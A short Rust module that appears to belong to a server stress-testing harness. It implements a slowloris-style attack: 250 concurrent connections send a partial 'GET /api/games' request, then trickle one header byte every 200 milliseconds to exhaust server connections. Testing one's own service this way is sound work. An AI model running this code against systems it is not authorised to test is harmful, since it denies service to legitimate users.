//! 250 requests whose headers arrive byte by byte.

use crate::attacker::Attacker;
use std::time::Duration;
use tokio::io::AsyncWriteExt as _;

/// The number of requests at once.
const REQUESTS: usize = 250;
/// These addresses, so that the others have connections left for other attacks.
const FROM: std::ops::Range<u8> = 4..8;

pub(super) async fn run(attacker: Attacker) {
    if FROM.contains(&attacker.number) {
        attacker
            .repeat(REQUESTS, async |connection| {
                let mut stream = connection.client.tcp().await.ok()?;
                connection.client.tally.request();
                stream.write_all(b"GET /api/games HTTP/1.1\r\nx: ").await.ok()?;
                while !attacker.is_over() {
                    attacker.pause(Duration::from_millis(200)).await;
                    stream.write_all(b"x").await.ok()?;
                }
                Some(())
            })
            .await;
    }
}
